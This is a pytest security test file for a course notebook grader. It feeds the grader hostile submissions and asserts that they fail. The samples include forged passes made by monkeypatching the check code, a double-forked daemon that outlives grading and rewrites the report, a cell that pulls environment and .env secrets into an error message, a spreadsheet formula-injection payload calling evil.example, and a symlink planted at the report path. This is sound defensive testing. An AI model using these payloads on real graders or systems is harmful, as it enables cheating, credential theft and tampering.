"""``mcp-teach grade`` under attack by the notebooks it grades: forged passes, a daemon that outlives grading, a
notebook changed by another before its turn, and a report that carries the grader's secrets or a spreadsheet formula.

One run of the real command (a process of its own, real kernels) grades a folder of hostile submissions; each test
reads what that run left. The check is the course's own, imported afresh in place of the check cell, so no name,
module change, registration or edited check cell of the notebook turns an unanswered exercise into a pass; whatever
a kernel started is gone before the next notebook and the report; the report shows no secret of the grader's
environment or ``.env`` and no cell a spreadsheet would run.
"""

from __future__ import annotations

import csv
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell, new_notebook
from support import HANG_TIMEOUT

from mcp_teach.exercises.grading import Grade, NotebookGrades, write_csv

MCP_TEACH = str(Path(sys.executable).with_name("mcp-teach"))
KERNELSPEC = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
BLANK = "# YOUR CODE HERE\npass"
#: Made up for these tests: in the grader's environment, and in the ``.env`` above the submissions.
CLASS_TOKEN = "class-token-Zq8Wm3Rt6Yp1Xn4Lk"
GITHUB_TOKEN = "ghp_" + "Tq7Lm2Vx9Kc4Rz8Wb3Nf6Hy1Pd5Sg0Ja2Ue"
DATABASE_PASSWORD = "course-db-Hp4Ls9Qe2Vn7"
SHAPED_KEY = "sk-proj-Ab12Cd34Ef56Gh78Ij90"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
#: Lesson 02's exercises and one of lesson 00's, each answered by an attack on the check (none answers the exercise).
FORGERIES = {
    "02.1": "def check(exercise_id):\n    print(f'✔ Exercise {exercise_id} passed')",  # the later check cells call it
    "02.2": (  # the checking module changed in memory: "not attempted" prints the pass line
        "import mcp_teach.exercises.catalogue as catalogue\n"
        "catalogue._not_attempted = lambda exercise_id, *_: print(f'✔ Exercise {exercise_id} passed')"
    ),
    "02.3": (  # expectations of its own for the course's exercises: none at all
        "from mcp_teach.exercises import exercise\n"
        "for exercise_id in ('02.3', '00.1'):\n"
        "    exercise(exercise_id, answers=())(lambda check: None)"
    ),
    "00.1": BLANK,  # its check cell is edited to print the pass line
}
#: A daemon (fork, setsid, fork) that waits for the grader to end, then rewrites the report; and a notebook graded
#: later changed before its turn.
DAEMON = """import os, time
report, grader = os.path.abspath('../grades.csv'), int(os.environ['JPY_PARENT_PID'])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(os.open('daemon.pid', os.O_WRONLY | os.O_CREAT, 0o600), str(os.getpid()).encode())
        while True:
            try:
                os.kill(grader, 0)
            except ProcessLookupError:
                break
            time.sleep(0.05)
        forged = os.open(report, os.O_WRONLY | os.O_TRUNC | os.O_CREAT, 0o600)
        os.write(forged, b'notebook,exercise,result,message\\nforged,02.1,pass,\\n')
        time.sleep(120)
    os._exit(0)
os.wait()
while not os.path.exists('daemon.pid'):
    time.sleep(0.01)
with open('../victim/02_tools_list.ipynb', 'w') as victim:
    victim.write('{}')"""
#: A solution cell whose error carries the grader's secrets (environment, ``.env``) and a token-shaped string.
LEAK = (
    "import os\nfrom dotenv import dotenv_values, find_dotenv\n"
    "password = dotenv_values(find_dotenv(usecwd=True))['COURSE_DB_PASSWORD']\n"
    "token, github = os.environ['MCP_AUTH_TOKEN'], os.environ['GITHUB_TOKEN']\n"
    f'raise RuntimeError(f"{{token}} {{github}} {{password}} {SHAPED_KEY}")'
)
#: Expectations the notebook registers for an exercise of its own, whose feedback is a spreadsheet formula.
OWN_EXERCISE = (
    "from mcp_teach.exercises import check, exercise\n\n\n"
    '@exercise("99.1", answers=())\ndef _(check):\n'
    "    from mcp_teach.exercises.check import ExerciseFailed\n\n"
    f"    raise ExerciseFailed({FORMULA!r})"
)
HOSTILE = FORMULA.replace("/", "_")  # a folder name a spreadsheet would run (a name in a bulk download can be one)


def notebook(solutions: dict[str, str], checks: dict[str, str] | None = None, first: str = "") -> nbformat.NotebookNode:
    """A submission: each exercise's solution cell as given, each check cell one line (unless ``checks`` says)."""
    cells = [new_code_cell(first or "from mcp_teach.exercises import check")]
    for exercise_id, solution in solutions.items():
        tags = [f"exercise:{exercise_id}"]
        cells.append(new_code_cell(solution, metadata={"tags": ["solution", *tags]}))
        source = (checks or {}).get(exercise_id, f'check("{exercise_id}")')
        cells.append(new_code_cell(source, metadata={"tags": ["check", *tags]}))
    return new_notebook(cells=cells, metadata={"kernelspec": KERNELSPEC})


#: One kernel for every attack (a kernel takes seconds to start), and a notebook graded after it that it changes.
SUBMISSIONS = {
    HOSTILE: notebook(
        {**FORGERIES, "00.2": DAEMON, "00.3": LEAK, "99.1": "pass"},
        {"00.1": "print('✔ Exercise 00.1 passed')"},
        first=OWN_EXERCISE,
    ),
    "victim": notebook({"02.1": BLANK}),
}


def alive(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):
    """The hostile class graded once by ``mcp-teach grade``, with secrets in its environment and ``.env``."""
    root = tmp_path_factory.mktemp("hostile")
    (root / ".env").write_text(f"COURSE_DB_PASSWORD={DATABASE_PASSWORD}\n", encoding="utf-8")
    submissions = root / "submissions"
    for student, submitted in SUBMISSIONS.items():
        (submissions / student).mkdir(parents=True)
        nbformat.write(submitted, submissions / student / "02_tools_list.ipynb")
    env = {**os.environ, "MCP_AUTH_TOKEN": CLASS_TOKEN, "GITHUB_TOKEN": GITHUB_TOKEN}
    command = [MCP_TEACH, "grade", str(submissions), "--timeout", "60", "--time-limit", "120"]
    result = subprocess.run(command, capture_output=True, text=True, env=env, timeout=HANG_TIMEOUT)
    daemon = submissions / HOSTILE / "daemon.pid"
    pid = int(daemon.read_text()) if daemon.exists() else None
    ran = SimpleNamespace(result=result, csv=submissions / "grades.csv", daemon=pid)
    ran.alive, ran.report = pid is not None and alive(pid), ran.csv.read_text(encoding="utf-8")
    yield ran
    if pid is not None and alive(pid):  # left behind by a grader that did not stop it
        os.kill(pid, signal.SIGKILL)


def results(graded: SimpleNamespace, student: str) -> dict[str, SimpleNamespace]:
    rows = read_rows(graded.csv)
    return {row["exercise"]: SimpleNamespace(**row) for row in rows if row["notebook"].lstrip("'").startswith(student)}


@pytest.mark.parametrize(
    "exercise_id",
    ["02.1", "02.2", "02.3", "00.1"],
    ids=["a-cell-defines-check", "a-cell-patches-the-checking-module", "a-cell-registers-expectations", "edited-check"],
)
def test_a_notebook_cannot_make_its_unanswered_exercises_pass(graded, exercise_id):
    assert results(graded, HOSTILE)[exercise_id].result == "not attempted", graded.report


def test_a_daemon_of_the_kernel_is_gone_before_the_report_is_written(graded):
    assert graded.daemon is not None, graded.report  # the daemon did start
    assert not graded.alive, f"process {graded.daemon} of the graded kernel outlived grading"
    time.sleep(0.3)  # what a survivor polling every 50 ms would have needed to rewrite the report
    assert read_rows(graded.csv)[0]["notebook"] != "forged"
    assert results(graded, HOSTILE)["00.2"].result == "not attempted"


def test_a_notebook_changed_by_one_graded_before_it_is_not_graded(graded):
    (victim,) = results(graded, "victim").values()
    assert victim.result == "error", graded.report
    assert victim.message == "it changed while the notebooks before it were graded: grade it again"


def test_the_report_shows_no_secret_of_the_grader(graded):
    leak = results(graded, HOSTILE)["00.3"]
    assert leak.result == "fail" and leak.message.startswith("the solution cell raised RuntimeError: "), leak
    for secret in (CLASS_TOKEN, GITHUB_TOKEN, DATABASE_PASSWORD, SHAPED_KEY):
        assert secret not in graded.report and secret not in graded.result.stdout
    assert leak.message.count("[REDACTED]") == 4, leak.message


def test_no_cell_of_the_report_is_a_formula(graded):
    rows = list(csv.reader(graded.report.splitlines()))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row), rows
    own = next(row for row in rows if row[1] == "99.1")
    assert own[0].startswith("'=HYPERLINK(") and own[2:] == ["fail", "'" + FORMULA], own


def test_the_report_replaces_a_link_planted_at_its_path(tmp_path):
    mine = tmp_path / "instructor-file"
    mine.write_text("mine\n", encoding="utf-8")
    report = tmp_path / "grades.csv"
    report.symlink_to(mine)  # as a graded kernel, running as the instructor, could leave it
    write_csv([NotebookGrades("a/02.ipynb", [Grade("a/02.ipynb", "02.1", "pass")])], report)
    assert mine.read_text(encoding="utf-8") == "mine\n"
    assert not report.is_symlink() and stat.S_IMODE(report.stat().st_mode) == 0o600
    assert read_rows(report) == [{"notebook": "a/02.ipynb", "exercise": "02.1", "result": "pass", "message": ""}]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["grades.csv", "instructor-file"]
